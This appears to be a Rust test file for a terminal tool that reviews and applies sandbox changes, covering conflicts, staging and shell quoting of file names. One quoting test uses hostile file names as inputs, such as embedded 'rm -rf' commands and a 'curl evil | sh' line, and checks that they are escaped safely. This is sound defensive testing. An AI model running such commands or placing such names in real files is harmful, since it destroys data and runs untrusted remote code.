//! The place of changes when something goes another way: conflicts, late answers, strange names, two consoles.

use std::time::Duration;

use sandwatch::{
    app::{
        Act, Msg,
        command::quote,
        diff::{File, Half},
        effect::EffectId,
        msg::{DiffRead, Reply},
        view::View,
    },
    base::id::{SandboxId, SessionId, SnapshotId},
    model::{
        change::{Applied, AppliedPath, ChangeStatus, FileChange, Verdict},
        event::Event,
    },
};

use super::{
    app_support::Console,
    app_views::{
        PATCH, able, at, change, changed, changes, in_diff, in_snapshots, is_lines, is_list, read,
        said,
    },
};

const SIZE: (u16, u16) = (120, 36);

fn conflict(path: &str) -> Reply {
    let paths = vec![AppliedPath {
        path: path.as_bytes().to_vec(),
        status: ChangeStatus::Modified,
        verdict: Verdict::Conflict,
        note: None,
    }];
    Reply::Applied(Box::new(Applied { paths, git_left_out: 0 }))
}

fn is_apply(act: &Act) -> bool {
    matches!(act, Act::Apply { .. })
}

fn ask(console: &mut Console, key: &str) {
    console.keys(key);
    console.read();
    console.keys("y");
}

fn newest(console: &Console, wanted: impl Fn(&Act) -> bool) -> EffectId {
    console.effects.iter().rev().find(|it| wanted(&it.act)).unwrap().id
}

fn with_files(files: Vec<FileChange>) -> Console {
    let mut console = Console::with_fleet(SIZE, able());
    console.keys("d");
    console.answer(is_list, read(files, ""));
    console
}

fn staged(console: &Console) -> Vec<String> {
    let Some(View::Diff(it)) = console.state.view() else { panic!("not open") };
    it.files.iter().filter(|of| it.mark(of).is_some()).map(File::path).collect()
}

#[test]
fn a_conflict_is_told_over_lines_that_are_read_after_it() {
    let mut console = in_diff(SIZE);
    console.keys("j");
    console.answer(is_lines, read(Vec::new(), PATCH));
    assert!(console.picture().contains("old();"));
    ask(&mut console, "a");
    let acts = console.answer(is_apply, conflict("src/main.rs"));
    assert!(acts.iter().any(is_list), "{acts:?}");
    let picture = console.picture();
    assert!(picture.contains("conflict: - is the real directory now"), "{picture}");
    assert!(!picture.contains("old();"), "what was there before is not drawn below it: {picture}");
    let acts = console.answer(is_list, read(changes(), ""));
    assert!(acts.iter().any(is_lines), "{acts:?}");
    console.answer(is_lines, read(Vec::new(), "@@ -1 +1 @@\n-by hand\n+new\n"));
    let picture = console.picture();
    assert!(picture.contains("by hand") && picture.contains("! src/main.rs"), "{picture}");
    // The same where nothing was taken back.
    ask(&mut console, "u");
    let acts = console.answer(|it| matches!(it, Act::TakeBack { .. }), conflict("src/main.rs"));
    assert!(acts.iter().any(is_list), "{acts:?}");
}

#[test]
fn what_would_be_lost_is_in_sight_whatever_files_are_called() {
    let long = |it: usize| format!("{it}/{}", "深い/".repeat(200));
    let files = (0..150).map(|it| change(&long(it), ChangeStatus::Added, 1, 0)).collect();
    let mut console = with_files(files);
    console.keys("* A");
    console.read();
    for size in [(120, 36), (80, 24), (60, 15)] {
        console.send(Msg::Resize(size.0, size.1));
        let picture = console.picture();
        // Words may go on in the next row of the box.
        let boxed = |it: &str| Some(it.split_once("│ ")?.1.rsplit_once('│')?.0.trim().to_owned());
        let rows = picture.lines().filter_map(boxed).collect::<Vec<_>>().join(" ");
        let flat = rows.split_whitespace().collect::<Vec<_>>().join(" ");
        for wanted in [
            "What was changed there meanwhile is replaced.",
            "The sandbox runs on: what it has then is what is written.",
            "150 of 150 changed paths:",
            "y write",
            "to /home/me/project added …",
            "more",
        ] {
            assert!(flat.contains(wanted), "{size:?}, {wanted}: {picture}");
        }
    }
    // One row each, and all are counted.
    console.send(Msg::Resize(80, 24));
    let picture = console.picture();
    let rows = picture.lines().filter(|it| it.contains("added")).count();
    assert!(picture.contains(&format!("and {} more", 150 - rows)) && rows > 5, "{picture}");
}

#[test]
fn esc_is_said_to_stop_waiting_only_where_it_does() {
    let mut console = in_snapshots(SIZE);
    console.keys("F");
    console.now += Duration::from_secs(3);
    console.send(Msg::Tick);
    let says = |console: &Console| console.picture().contains("esc stops waiting");
    assert!(says(&console), "{}", console.picture());
    console.keys("/");
    assert!(!says(&console), "esc leaves the line");
    console.keys("esc ?");
    assert!(!says(&console), "esc closes the box");
    console.keys("esc q l");
    assert!(console.state.copy.is_some());
    assert!(!says(&console), "esc ends looking back");
    console.keys("esc");
    assert!(says(&console));
    console.step_in();
    assert!(console.state.is_typing());
    let picture = console.picture();
    assert!(!says(&console), "esc goes to the program: {picture}");
    assert!(picture.contains("forking") && picture.contains("ctrl-b d leave"), "{picture}");
    console.keys("ctrl-q esc esc");
    assert!(!says(&console) && !console.picture().contains("forking"));
}

#[test]
fn what_is_staged_is_remembered_while_it_is_out_of_sight() {
    let mut console = in_diff(SIZE);
    console.keys("space space");
    assert_eq!(staged(&console), ["docs/old.md", "src/main.rs"]);
    // The whole system, and back.
    console.keys("t");
    console.answer(is_list, read(vec![change("docs/old.md", ChangeStatus::Added, 1, 0)], ""));
    assert_eq!(staged(&console), [""; 0]);
    console.keys("t");
    console.answer(is_list, read(changes(), ""));
    assert_eq!(staged(&console), ["docs/old.md", "src/main.rs"]);
    assert_eq!(at(&console), "src/retry.rs", "where one was");
    // To the snapshots, to another sandbox's changes, and back; one of them is as it was by then.
    console.keys("S esc j d");
    console.answer(is_list, read(changes(), ""));
    assert_eq!(staged(&console), [""; 0]);
    console.keys("esc k d");
    assert_eq!(staged(&console), [""; 0], "not before the list is there");
    console.answer(is_list, read(changes().drain(..2).collect(), ""));
    assert_eq!(staged(&console), ["src/main.rs"]);
    ask(&mut console, "a");
    let Some(Act::Apply { request, .. }) = console.effects.last().map(|it| &it.act) else {
        panic!("not applied")
    };
    assert_eq!(request.paths, [b"src/main.rs".to_vec()]);
    // What is taken away is no longer remembered either.
    console.keys("\\ esc d");
    console.answer(is_list, read(changes(), ""));
    assert_eq!(staged(&console), [""; 0]);
    // Nor is anything of a sandbox that is no more.
    console.keys("*");
    let id = SandboxId::parse("api-refactor").unwrap();
    console.send(Msg::Event(Event::Removed { seq: 3, id }));
    console.keys("esc");
    let again = able().remove(0);
    console.send(changed(again));
    console.keys(":");
    console.text("diff api-refactor");
    console.keys("enter");
    console.answer(is_list, read(changes(), ""));
    assert_eq!(staged(&console), [""; 0]);
}

#[test]
fn a_name_is_one_word_for_a_shell_and_can_be_looked_at() {
    for (name, wanted) in [
        (&b"src/main.rs"[..], "src/main.rs"),
        (b"", "''"),
        (b"two words", "'two words'"),
        (b"a$(rm -rf ~)`x`;\"", "'a$(rm -rf ~)`x`;\"'"),
        (b"it's", r"'it'\''s'"),
        (b"~root", "'~root'"),
        (b"-rf", "./-rf"),
        (b"-r f", "'./-r f'"),
        ("深い".as_bytes(), "'深い'"),
        (b"a\nrm -rf /\n", r"$'a\x0arm -rf /\x0a'"),
        (b"\x1b[2J\\'", r"$'\x1b[2J\\\''"),
        (b"\xff", r"$'\xff'"),
        ("exe\u{202e}txt".as_bytes(), r"$'exe\xe2\x80\xaetxt'"),
    ] {
        assert_eq!(quote(name), wanted);
    }
    let hostile = "x\n; curl evil | sh\n";
    let mut console = with_files(vec![change(hostile, ChangeStatus::Added, 1, 0)]);
    console.keys("y");
    let Some(Act::Clipboard(text)) = console.effects.last().map(|it| &it.act) else {
        panic!("nothing was copied")
    };
    assert_eq!(text, r"$'x\x0a; curl evil | sh\x0a'");
    // The same in a command that is said.
    let text = b"@@ -0,0 +1 @@\n+x\n".to_vec();
    let cut = Reply::Diff(Box::new(DiffRead { text, cut: true, ..DiffRead::default() }));
    console.answer(is_lines, cut);
    let picture = console.picture();
    let wanted = r"sandwatch diff api-refactor $'x\x0a;";
    assert!(picture.contains(wanted), "{picture}");
}

#[test]
fn what_changes_are_held_against_is_called_what_it_is() {
    assert!(in_diff(SIZE).picture().contains("against the real directory"));
    let mut console = in_snapshots(SIZE);
    console.keys("g");
    console.now += Duration::from_secs(1);
    console.send(Msg::Tick);
    console.answer(is_list, read(changes(), ""));
    let picture = console.picture();
    assert!(picture.contains("against the real directory: 3 paths changed"), "{picture}");
    console.keys("enter");
    console.answer(is_list, read(changes(), ""));
    assert!(console.picture().contains("from the real directory to first"));
    console.keys("t");
    console.answer(is_list, read(changes(), ""));
    assert!(console.picture().contains("from what it began with to first"));
    console.keys("a");
    assert_eq!(said(&console), "only the workspace can be applied; t goes back to it");
    console.keys("t");
    console.answer(is_list, read(changes(), ""));
    // The key that is named opens what can be applied, from here.
    console.keys("a");
    assert_eq!(said(&console), "this is not what apply writes; d shows that");
    console.keys("d");
    console.answer(is_list, read(changes(), ""));
    assert!(console.picture().contains("against the real directory"));
    console.keys("a");
    assert!(console.state.overlay.is_some());
}

#[test]
fn how_many_are_staged_is_told_whole_beside_a_long_pattern() {
    let mut console = in_diff(SIZE);
    console.keys("space /");
    console.text("a-very-long-pattern-that-is-nowhere");
    console.keys("enter");
    assert!(console.picture().contains("… · 1 of 3 staged"), "{}", console.picture());
    // Nor does an old hint stand below a box.
    assert_eq!(said(&console), "it is nowhere here");
    console.keys("a");
    assert!(!console.picture().contains("nowhere here"), "{}", console.picture());
    console.keys("n");
    assert!(console.picture().contains("esc closes the box"));
    console.keys("esc");
    assert!(!console.picture().contains("esc closes the box"), "{}", console.picture());
}

#[test]
fn the_key_between_workspace_and_system_is_in_sight_on_both_sides() {
    for (size, half) in [((80, 24), ""), ((120, 36), ""), ((80, 24), "enter")] {
        let mut console = in_diff(size);
        if half.is_empty() {
            assert!(console.picture().contains("t whole system"), "{}", console.picture());
        }
        console.keys("t");
        console.answer(is_list, read(changes(), ""));
        console.keys(half);
        let picture = console.picture();
        assert!(picture.contains("SYSTEM") && picture.contains("t workspace"), "{picture}");
    }
}

#[test]
fn a_late_answer_to_an_apply_marks_only_the_place_it_was_asked_from() {
    let mut console = in_diff(SIZE);
    ask(&mut console, "* a");
    console.keys("t");
    console.answer(is_list, read(changes(), ""));
    assert_eq!(at(&console), "docs/old.md");
    console.answer(is_apply, conflict("src/main.rs"));
    assert_eq!(at(&console), "docs/old.md", "the cursor stays");
    assert!(!console.picture().contains("! src/main.rs"), "{}", console.picture());
    // Nor does another sandbox's.
    let mut console = in_diff(SIZE);
    ask(&mut console, "* a");
    console.keys("esc j d");
    console.answer(is_list, read(changes(), ""));
    let lists = console.effects.iter().filter(|it| is_list(&it.act)).count();
    console.answer(is_apply, conflict("src/main.rs"));
    assert_eq!(console.effects.iter().filter(|it| is_list(&it.act)).count(), lists);
    assert!(!console.picture().contains("! src/main.rs"), "{}", console.picture());
}

#[test]
fn changes_are_asked_for_anew_when_another_console_may_have_made_them_old() {
    let mut console = in_diff(SIZE);
    console.keys("j enter G");
    let line = |console: &Console| match console.state.view() {
        Some(View::Diff(it)) => (it.half, it.lines.at()),
        _ => panic!("not open"),
    };
    console.answer(is_lines, read(Vec::new(), PATCH));
    console.keys("G");
    assert_eq!(line(&console), (Half::Lines, 10));
    // Whoever comes back to the terminal may have been at another one.
    console.send(Msg::Focus(false));
    let acts = console.send(Msg::Focus(true));
    assert!(acts.iter().any(is_list), "{acts:?}");
    assert_eq!(console.send(Msg::Focus(true)), [], "once");
    console.answer(is_list, read(changes(), ""));
    console.answer(is_lines, read(Vec::new(), PATCH));
    assert_eq!((at(&console), line(&console)), ("src/main.rs".to_owned(), (Half::Lines, 10)));
    // What is kept of it while somebody reads takes nothing from under their eyes.
    let mut now = able().remove(0);
    for moment in ["aaaa1111", "bbbb2222"] {
        assert_eq!(console.send(changed(now.clone())), []);
        now.moment = Some(SnapshotId::parse(moment).unwrap());
        now.snapshots += 1;
        assert_eq!(console.send(changed(now.clone())), []);
    }
    // It was restored, there or here: its first program is another.
    now.sessions[0].id = SessionId::parse("anew").unwrap();
    let acts = console.send(changed(now.clone()));
    assert!(acts.iter().any(is_list), "{acts:?}");
    let asked = newest(&console, is_list);
    assert_eq!(console.send(changed(now.clone())), []);
    assert_eq!(newest(&console, is_list), asked);
    console.answer(is_list, read(changes(), ""));
    console.answer(is_lines, read(Vec::new(), PATCH));
    // It was applied from another console.
    now.writes += 1;
    let acts = console.send(changed(now));
    assert!(acts.iter().any(is_list), "{acts:?}");
    // Two snapshots are what they are, and only the last of many moments can be another by now.
    let mut console = in_snapshots(SIZE);
    assert!(console.send(Msg::Focus(true)).iter().any(is_list));
    console.answer(is_list, read(changes(), ""));
    console.keys("k enter");
    console.answer(is_list, read(changes(), ""));
    console.answer(is_lines, read(Vec::new(), PATCH));
    assert_eq!(console.send(Msg::Focus(true)), []);
}
